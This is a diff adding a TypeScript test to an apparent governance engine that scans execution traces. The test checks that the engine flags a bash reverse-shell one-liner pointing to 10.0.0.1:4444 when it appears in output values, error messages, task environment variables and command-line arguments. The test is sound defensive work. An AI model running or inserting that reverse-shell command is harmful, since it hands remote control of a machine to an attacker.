@@ -23,6 +23,21 @@ describe('governance engine: flag kinds, policy fields, custom rules, hostile in
     });
   });
 
+  it('reads every part of a trace a surface covers: output value and error message, task arguments and environment', async () => {
+    rt = await createRuntime({ config: { logLevel: 'silent', plugins: { ...packPlugins(), governance: {} } } });
+    const gov = rt.resolve('governance');
+    const shell = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1';
+    const fields = async (trace: ReturnType<typeof makeTrace>, surface: 'input' | 'output') =>
+      (await gov.evaluate(trace, surface)).findings.flatMap((f) => f.evidence.map((e) => e.field));
+    expect(await fields(makeTrace('x = 1', { output: { ok: true, stdout: '', stderr: '', value: shell } }), 'output')).toContain('output.value');
+    expect(await fields(makeTrace('x = 1', { output: { ok: true, stdout: '', stderr: '', value: { cmd: shell } } }), 'output')).toContain('output.value');
+    expect(await fields(makeTrace('x = 1', { output: { ok: false, stdout: '', stderr: '', error: { code: 'E', message: shell } } }), 'output')).toContain('output.error');
+    expect(await fields(makeTrace('import os; exec(os.environ["P"])', { task: { input: 'import os; exec(os.environ["P"])', kind: 'code', env: { P: shell } } }), 'input')).toContain('task.env:P');
+    expect(await fields(makeTrace('import sys', { task: { input: 'import sys', kind: 'code', args: ['-c', shell] } }), 'input')).toContain('task.args');
+    // Nothing extra for a plain trace.
+    expect(await fields(makeTrace('print(1)', { output: { ok: true, stdout: '1', stderr: '' } }), 'output')).toEqual([]);
+  });
+
   it('raises each flag kind', async () => {
     rt = await governanceRuntime({ preset: 'permissive' });
     const kinds = async (text: string, surface: 'input' | 'output' | 'tool' = 'input') => (await check(text, surface)).findings.map((f) => f.kind);
